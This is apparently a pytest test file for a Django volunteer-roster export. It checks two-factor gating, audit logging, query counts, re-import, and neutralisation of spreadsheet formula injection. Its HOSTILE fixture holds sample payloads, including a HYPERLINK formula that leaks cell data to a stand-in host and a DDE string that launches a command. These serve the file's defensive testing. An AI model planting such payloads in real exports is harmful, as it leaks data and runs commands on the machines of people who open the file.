"""Roster export: coordinators with two-factor authentication only, safe in spreadsheets, audited."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django_scopes import scope, scopes_disabled
from openpyxl import load_workbook

from campaign.models import AuditEvent, PersonTag, Tag
from tests.volunteers.test_roster_helpers import enable_mfa, make_volunteer, url
from volunteers.exporting import neutralise

pytestmark = pytest.mark.django_db

HOSTILE = {
    "given": '=HYPERLINK("http://evil.test/?"&A1,"Click")',
    "family": "+SUM(1,2)",
    "neighbourhood": "@cmd|' /C calc'!A0",
}


@pytest.fixture
def mfa_client(client, team_a):
    enable_mfa(team_a.coordinator.user)
    client.force_login(team_a.coordinator.user)
    return client


def csv_rows(response) -> list[list[str]]:
    assert isinstance(response, StreamingHttpResponse)
    body = b"".join(response.streaming_content)
    assert body.startswith("\ufeff".encode())  # spreadsheets then read the Chinese names right
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def xlsx_rows(response) -> list[list]:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [[cell for cell in row] for row in sheet.iter_rows()]


def exports() -> list[AuditEvent]:
    with scopes_disabled():
        return list(AuditEvent.objects.filter(action="volunteers.exported").order_by("id"))


@pytest.mark.parametrize("name", ["export_csv", "export_xlsx"])
def test_without_two_factor_authentication_the_export_is_refused(client, team_a, name):
    make_volunteer(team_a.campaign, given="Secret", family="Person")
    client.force_login(team_a.coordinator.user)
    response = client.get(url(name, team_a.campaign))
    assert response.status_code == 403
    html = response.content.decode()
    assert "Two-factor authentication needed" in html
    assert reverse("mfa_index") in html
    assert "Secret" not in html
    assert exports() == []


@pytest.mark.parametrize("name", ["export_csv", "export_xlsx"])
def test_a_volunteer_with_two_factor_still_cannot_export(client, team_a, name):
    enable_mfa(team_a.volunteer.user)
    client.force_login(team_a.volunteer.user)
    assert client.get(url(name, team_a.campaign)).status_code == 403
    assert exports() == []


def test_csv_export_with_filters_is_audited_without_personal_data(mfa_client, team_a):
    c = team_a.campaign
    ada = make_volunteer(
        c,
        given="Ada",
        family="Lovelace",
        email="ada@example.test",
        phone="+85291234567",
        status="active",
        skills=("Driving", "Events"),
        available_weekends=True,
        neighbourhood="Mong Kok",
    )
    make_volunteer(c, given="伟", family="张", status="active")
    make_volunteer(c, given="Not", family="Active", status="new")
    with scope(campaign=c.pk):
        tag = Tag.objects.create(campaign=c, name="Drivers")
        PersonTag.objects.create(campaign=c, person=ada.person, tag=tag)

    response = mfa_client.get(url("export_csv", c), {"status": "active", "q": "LOVE"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment;" in response["Content-Disposition"] and ".csv" in response["Content-Disposition"]
    rows = csv_rows(response)
    header, *data = rows
    assert header[:4] == ["given_name", "family_name", "email", "phone"]
    by_name = {row[0]: dict(zip(header, row, strict=True)) for row in data}
    assert set(by_name) == {"Ada"}  # 张伟 does not match the search; "Not Active" is not active
    assert by_name["Ada"]["skills"] == "Driving; Events" and by_name["Ada"]["tags"] == "Drivers"
    assert by_name["Ada"]["weekends"] == "yes" and by_name["Ada"]["neighbourhood"] == "Mong Kok"

    (event,) = exports()
    assert event.actor == team_a.coordinator.user
    assert event.data == {"format": "csv", "filters": {"status": "active", "search": True}, "rows": 1}

    everyone = csv_rows(mfa_client.get(url("export_csv", c)))
    assert {row[0] for row in everyone[1:]} == {"Ada", "伟", "Not"}
    assert exports()[-1].data["rows"] == 3


def test_formula_injection_is_neutralised_in_csv(mfa_client, team_a):
    make_volunteer(
        team_a.campaign,
        given=HOSTILE["given"],
        family=HOSTILE["family"],
        neighbourhood=HOSTILE["neighbourhood"],
        email="hostile@example.test",
    )
    header, row = csv_rows(mfa_client.get(url("export_csv", team_a.campaign)))
    cells = dict(zip(header, row, strict=True))
    assert cells["given_name"] == "'" + HOSTILE["given"]
    assert cells["family_name"] == "'" + HOSTILE["family"]
    assert cells["neighbourhood"].startswith("'@")
    for value in row:
        assert not value.startswith(("=", "+", "-", "@")), value


def test_formula_injection_is_neutralised_in_xlsx(mfa_client, team_a):
    make_volunteer(
        team_a.campaign,
        given=HOSTILE["given"],
        family=HOSTILE["family"],
        neighbourhood=HOSTILE["neighbourhood"],
        email="hostile@example.test",
        phone="+85291234567",
    )
    make_volunteer(team_a.campaign, given="伟", family="张", email="wei@example.test")
    response = mfa_client.get(url("export_xlsx", team_a.campaign))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    header, *data = xlsx_rows(response)
    names = [cell.value for cell in header]
    assert names[:4] == ["given_name", "family_name", "email", "phone"]
    for row in data:
        for cell in row:
            assert cell.data_type != "f", cell.value  # no formula anywhere
            assert not str(cell.value or "").startswith(("=", "@", "-")), cell.value
    hostile = next(
        dict(zip(names, (c.value for c in row), strict=True)) for row in data if row[2].value.startswith("host")
    )
    assert hostile["given_name"] == "'" + HOSTILE["given"]
    assert hostile["family_name"] == "'" + HOSTILE["family"]
    assert hostile["phone"] == "+85291234567"  # a plain phone number is left readable
    assert any(row[0].value == "伟" and row[1].value == "张" for row in data)
    assert exports()[-1].data["format"] == "xlsx"


def test_neutralise():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("-2+3") == "'-2+3"
    assert neutralise("@SUM(A1)") == "'@SUM(A1)"
    assert neutralise("\t=1") == "'\t=1"
    assert neutralise("-12.5") == "-12.5"
    assert neutralise("+85291234567") == "+85291234567"
    assert neutralise("+852 9123 4567=") == "'+852 9123 4567="
    assert neutralise("Ada") == "Ada"


def test_export_queries_do_not_grow_with_the_roster(mfa_client, team_a, django_assert_num_queries):
    c = team_a.campaign
    for i in range(10):
        make_volunteer(c, given=f"V{i}", family="Q", skills=("Events",))
    mfa_client.get(url("export_csv", c))
    with CaptureQueriesContext(connection) as small:
        rows = csv_rows(mfa_client.get(url("export_csv", c)))
    assert len(rows) == 11
    for i in range(10, 300):
        make_volunteer(c, given=f"V{i}", family="Q", skills=("Events",))
    with django_assert_num_queries(len(small.captured_queries)):
        rows = csv_rows(mfa_client.get(url("export_csv", c)))
    assert len(rows) == 301


def test_an_export_can_be_imported_again(mfa_client, team_a, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    c = team_a.campaign
    make_volunteer(
        c,
        given="Ada",
        family="Lovelace",
        email="ada@example.test",
        phone="+85291234567",
        skills=("Driving",),
        language="en",
        tshirt_size="M",
    )
    make_volunteer(c, given="伟", family="张", email="", phone="+85261234567", available_evenings=True)
    body = b"".join(mfa_client.get(url("export_csv", c)).streaming_content)
    response = mfa_client.post(url("import", c), {"file": SimpleUploadedFile("export.csv", body)})
    assert response.status_code == 302
    html = mfa_client.get(response["Location"]).content.decode()
    assert 'data-testid="count-invalid">0<' in html and 'data-testid="count-update">2<' in html
